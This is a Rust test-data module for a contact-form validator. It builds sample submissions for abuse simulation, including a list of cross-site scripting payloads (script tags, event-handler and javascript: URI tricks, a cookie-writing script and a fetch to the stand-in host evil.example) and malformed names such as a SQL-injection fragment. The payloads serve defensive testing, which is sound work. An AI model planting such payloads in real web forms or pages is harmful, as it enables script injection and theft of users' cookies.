// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for abuse simulation.

use contact_form_guard::validator::SubmissionInput;

/// Generate a pool of rate limit identifiers.
pub fn generate_client_ids(count: usize) -> Vec<String> {
    (0..count).map(|i| format!("client-{i:04}")).collect()
}

/// A submission that passes every field check.
pub fn valid_submission(i: usize) -> SubmissionInput {
    SubmissionInput::new(
        "Ada Lovelace",
        &format!("ada{i}@example.org"),
        &format!("Hello, I enjoyed reading project note number {i}."),
    )
}

/// Script injection payloads. Each one carries a pattern the guard
/// reports as suspicious.
pub fn xss_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<SCRIPT>document.write(document.cookie)</SCRIPT>",
        "<body onload=eval('x')>",
        "<<script>script>alert(1)<</script>/script>",
        "<scr<script>ipt>alert(1)</script>",
        "<!--<script>-->alert(1)",
        "<script>alert(1)",
        "\"><script>fetch('//evil.example')</script>",
    ]
}

/// A submission whose message carries an injection payload around
/// otherwise valid text.
pub fn xss_submission(i: usize) -> SubmissionInput {
    let payloads = xss_payloads();
    let payload = payloads[i % payloads.len()];
    SubmissionInput::new(
        "Ada Lovelace",
        "ada@example.org",
        &format!("Lovely portfolio, {payload} let's talk soon"),
    )
}

/// Blank fields, as sent by naive form spam.
pub fn empty_submission() -> SubmissionInput {
    SubmissionInput::new("", "", "")
}

/// A message one character over the default limit.
pub fn oversized_submission() -> SubmissionInput {
    SubmissionInput::new("Ada Lovelace", "ada@example.org", &"x".repeat(1001))
}

/// Email values the validator must reject.
pub fn invalid_emails() -> Vec<String> {
    vec![
        "plainaddress".to_string(),
        "@example.com".to_string(),
        "ada@".to_string(),
        "ada@@example.com".to_string(),
        "ada example@example.com".to_string(),
        format!("{}@example.com", "a".repeat(243)),
    ]
}

/// Name values the validator must reject.
pub fn invalid_names() -> Vec<String> {
    vec![
        "A".to_string(),
        "R2D2".to_string(),
        "alert(1)".to_string(),
        "ada@example".to_string(),
        "Ada; DROP TABLE".to_string(),
        "a".repeat(51),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generate_client_ids() {
        let ids = generate_client_ids(256);
        assert_eq!(ids.len(), 256);
        let unique: std::collections::HashSet<_> = ids.iter().collect();
        assert_eq!(unique.len(), 256);
    }

    #[test]
    fn test_invalid_email_lengths() {
        assert_eq!(invalid_emails().last().unwrap().len(), 255);
    }
}
